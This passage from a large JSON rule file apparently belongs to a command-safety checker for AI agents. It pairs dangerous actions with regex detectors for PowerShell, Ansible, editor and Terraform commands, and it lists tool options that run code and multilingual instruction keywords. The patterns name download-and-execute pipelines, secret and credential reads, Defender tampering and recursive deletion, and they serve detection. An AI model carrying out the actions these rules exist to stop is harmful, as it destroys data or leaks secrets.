-s|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"\
-']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConn\
-ection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n\
-]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0\
-,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0\
-,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'\
-$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\
-\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\
-\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory\
-|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\
-\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]\
-:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|Creation\
-Time|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\\
-w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx\
-|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expr\
-ession|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psq\
-l|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|ro\
-bocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC\
-2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|S\
-et-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::C\
-reate\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b\
-[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|I\
-nvoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n\
-]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAG\
-ER","PAGER"]},"whatis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESS\
-OPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYST\
-EMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDI\
-TOR","PAGER"]},"timedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"varia\
-bles":["SUDO_EDITOR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"\
-variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["\
-KUBE_EDITOR","EDITOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BRO\
-WSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITO\
-R"]},"psql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"m\
-ariadb":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg"\
-:{"variables":["HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGE\
-R","PAGER"]},"delta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variable\
-s":["SSH_ASKPASS"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["C\
-VS_RSH","CVSEDITOR","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","G\
-IT_PROXY_COMMAND","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","l\
-ong":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","en\
-v-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"sh\
-ort":"","long":["upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pa\
-ck"],"code":["u","upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack",\
-"exec"],"code":["receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-f\
-iles-in-pager"]}},"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-sc\
-ript"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+\
-)$"},"bsdtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","ch\
-eckpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF",\
-"long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command\
-","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"\
-code":["ex","eval-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""}\
-,"concurrently":{"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]\
-},"scp":{"short":"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"cod\
-e":["P","pager","H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check\
-","list-hosts"]},"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-f\
-ile","start-at-task"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\
-\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\\
-t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\\
-})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?\
-![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:pat\
-h|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+stat\
-e:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\\
-n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.\
-aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\
-\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_d\
-b|mysql_db|mongodb_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:\
-(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?\
-:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:com\
-munity\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $"\
-:["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n\
-]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?\
-(?:service|systemd(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n\
-){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)\
-[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[\
- \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*\
-(?:r|read|pu|put|norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\
-\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemo\
-dify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()\
-"]}},"tofu":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform \
-output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-\
-shell":{"short":"pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","\
-pretty"]},"curl":{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread"\
-:"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unr\
-ead":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"]\
-,"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"s\
-hort":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])\
-[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=\
-(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wh\
-olename","iwholename","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","use\
-r","group","uid","gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"\
-editor":{"short":"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","u\
-ser","workdir","detach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns\
-","expose","gpus","group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size"\
-,"stop-signal","tmpfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","co\
-ntainer","index","kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":t\
-rue},"request":{"short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header",\
-"request","user","output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt\
-"},"git":{"short":"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long"\
-:["expression","file","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars",\
-"process-slot-var"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","\
-delay","timeout","joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","e\
-nv","profile","tagstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short"\
-:"oO","long":["rcfile","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profi\
-le","profile-startup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","\
-working-directory","set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-coun\
-t","include","exclude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TM\
-PDIR":"/tmp","?":"0","!":"%%","$":"7340281946"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b"\
-,"e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","al\
-num":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only"\
-:["change-rights-of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}},"sentences":{"before_order":["please\
-","then","next","now","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","\
-immediately","quickly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task"\
-,"goal","plan","objective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","\
-bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","prime\
-ro","despu\\u00e9s","por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully"\
-,"forcibly","recursively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"denia\
-ls":["not","don't","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","could\
-n't","isn't","aren't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disall\
-ow","disallowed","block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hardl\
-y","nothing","nobody","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","describ\
-e","describes","discuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","\
-check","verify","confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","\
-report","reports","flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","su\
-ggests","assert","handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has",\
-"had","does","doesn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","seem\
-s","appears","crashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","th\
-ey","he","she","there","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i",\
-"you","whatever","everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program"\
-,"command","one-liner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","e\
-mail","share","publish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key"\
-,"secret","credential","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","ge\
-t","plug","ship","scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type"\
-,"issue","launch","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","d\
-isallowed","risky","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","doc\
-ument","documents","documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not\
-","never","instead","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","u\
-s","then","must","can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":\
-["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","\
-gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat",\
-"mv","cp","bash","sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean",\
-"checkout","restore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exe\
-c","destroy","system","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","r\
-elease","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put",\
-"set":"set","shut":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made",\
-"overwrite":"overwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/\
-root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys\
